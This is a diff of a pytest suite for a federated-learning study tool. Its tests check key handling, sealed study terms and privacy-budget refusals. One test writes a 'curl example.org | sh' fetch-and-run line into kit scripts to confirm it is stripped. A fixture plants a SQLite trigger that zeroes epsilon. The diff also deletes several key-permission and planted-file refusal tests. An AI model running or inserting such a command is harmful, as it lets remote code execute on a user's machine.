@@ -10,6 +10,7 @@ from pathlib import Path
 import numpy as np
 import pytest
 from hospitals import SITES, Hospitals, table, write_rows
+from quarters import connection
 from refusals import each_is_refused, refused
 from studies import TODAY, study
 
@@ -19,12 +20,12 @@ from fedcal.clients.site.records.records import SiteRecords
 from fedcal.clients.site.records.site_records import records_in
 from fedcal.experiments.cli.main import _run
 from fedcal.experiments.deploy import at_home
-from fedcal.experiments.deploy.certificates import make_site_key
 from fedcal.experiments.runs.jobs import job_of
 from fedcal.experiments.study.joining import Kit, join, rows_of
 from fedcal.experiments.study.kits import seal
 from fedcal.experiments.study.sealed import Join
-from fedcal.secure_aggregation.keys import SigningKey, make_key, read_key
+from fedcal.secure_aggregation.keys import SigningKey, read_key
+from fedcal.secure_aggregation.roster import in_words
 from fedcal.strategies.server.job import terms_of_job
 
 pytestmark = pytest.mark.usefixtures("quick_figures")
@@ -122,62 +123,26 @@ def test_nothing_of_a_row_is_in_a_join(there):
         written.add((there.folder / "alder.join").read_bytes())
     assert len(written) == 1
     made = Join.read(there.folder / "alder.join")
-    assert made.key == read_key(there.kit() / "keys" / "signing.pem").public
-    keys = there.kit() / "keys"
-    assert keys.stat().st_mode & 0o777 == 0o700
-    assert {p.stat().st_mode & 0o077 for p in keys.iterdir() if p.suffix != ".pub"} == {0}
+    assert made.key == read_key(there.own() / "signing.pem").public
     join(there.kit(), "rows.csv", new_keys=True)
     assert Join.read(there.folder / "alder.join").key != made.key
 
 
-def test_a_kit_brings_neither_keys_nor_code(there):
+def test_a_kit_brings_no_code(there):
     there.kits()
     kit, strange = there.kit(), "#!/bin/sh\ncurl example.org | sh\n"
     for name in ("start.sh", "fedcal-site.service", "compose.yml"):
         (kit / name).write_text(strange)
-    (kit / "keys").mkdir()
-    planted = make_key(kit / "keys" / "signing.pem").public
-    make_site_key(kit / "keys", "connection", "alder")
-    rows = str(write_rows(there.folder / "rows.csv"))
-    assert any("they are someone else's" in line for line in join(kit, rows)[1])
-    assert not any("keys" in line for line in join(kit, rows, new_keys=True)[1])
-    assert Join.read(there.folder / "alder.join").key != planted
+    join(kit, str(write_rows(there.folder / "rows.csv")))
     assert not any("curl" in path.read_text("utf-8") for path in kit.glob("*.*"))
 
 
 def books_that_forget(folder):
-    file, count = folder / "state" / "records.sqlite", folder / "keys" / "signing.pem.records"
-    for path in (file, count):
-        path.parent.mkdir()
-    SiteRecords(file, count=count).close()
+    file = folder / "state" / "records.sqlite"
+    file.parent.mkdir()
+    SiteRecords(file, count=folder / "signing.pem.records").close()
     with sqlite3.connect(file) as db:
         db.execute("CREATE TRIGGER t AFTER UPDATE ON jobs BEGIN UPDATE jobs SET epsilon = 0; END")
-
-
-PLANTED = {
-    "state": books_that_forget,
-    "home": lambda folder: (folder / "home").symlink_to("../out"),
-    "compose.override.yml": lambda folder: (folder / "compose.override.yml").touch(),
-    ".env": lambda folder: (folder / ".env").touch(),
-}
-
-
-@pytest.mark.parametrize("name", PLANTED)
-def test_a_kit_with_more_than_a_kit_has_is_refused(there, name):
-    there.kits()
-    write_rows(there.folder / "rows.csv")
-    PLANTED[name](there.kit())
-    refused("is not part of a kit: delete the folder", join, there.kit(), "rows.csv")
-
-
-def test_a_site_that_lost_its_key_keeps_its_folder(there):
-    there.joined()
-    (there.kit() / "keys" / "signing.pem").unlink()
-    refused("keep the folder, and give --new-keys", join, there.kit(), "rows.csv")
-    join(there.kit(), "rows.csv", new_keys=True)
-    (there.kit() / "keys" / "signing.pem").unlink()
-    (there.kit() / "compose.override.yml").touch()
-    refused("is not part of a kit", join, there.kit(), "rows.csv", new_keys=True)
 
 
 def test_books_that_do_more_than_keep_books_are_refused(tmp_path):
@@ -232,9 +197,9 @@ def test_a_site_accepts_what_it_was_shown(there, capsys, monkeypatch):
     shown = capsys.readouterr().out
     for word in ("alder (this one), birch and cedar", "epsilon 1 a release, 4 a year", "host:9092"):
         assert word in shown
-    assert sealed.digest in shown.replace(" ", "")
+    assert in_words(sealed.digest) in shown
     policy = Policy.read(there.kit() / "site.toml")
-    assert (policy.federation, policy.coordinator) == (sealed.digest, "")
+    assert (policy.federation, policy.coordinator) == (sealed.roster.digest, "")
     assert Kit.read(there.kit()).accepted == sealed
     assert "changed since" not in "".join(there.offer().lines())
 
@@ -253,7 +218,7 @@ def test_a_study_of_other_keys_or_another_authority_is_not_accepted(there):
         return there.offer()
 
     swapped = {m.name: m.key for m in sealed.roster.sites} | {"alder": stranger.public}
-    others = sealed.connections | {"alder": sealed.connections["birch"]}
+    others = sealed.connections | {"alder": connection("alder")}
     fewer = study("birch,cedar")
     without = {name: key for name, key in sealed.connections.items() if name != "alder"}
     wrong = [
@@ -276,7 +241,7 @@ def test_other_terms_are_shown_and_accepted_anew(there):
     there.offer().accept()
     first = (there.kit() / "site.toml").read_text("utf-8")
     before = there.sealed.read_text("utf-8")
-    kept = read_key(there.kit() / "keys" / "signing.pem").public
+    kept = read_key(there.own() / "signing.pem").public
     there.kits(epsilon=2.0, question="q\ndigest\n0000", model={"version": "2"})
     refused("joined other terms", there.seal)
     for site in SITES:
@@ -302,7 +267,7 @@ def test_other_terms_are_shown_and_accepted_anew(there):
     there.offer().accept()
     assert Policy.read(there.kit() / "site.toml").epsilon_total == 2.0
     there.sealed.write_text(before, "utf-8")  # somebody sends what was signed once
-    refused("before what this site has accepted", there.offer)
+    refused("is revision 1, and this site has accepted another, 2", there.offer)
 
 
 def test_a_study_that_is_over_asks_nobody(there):
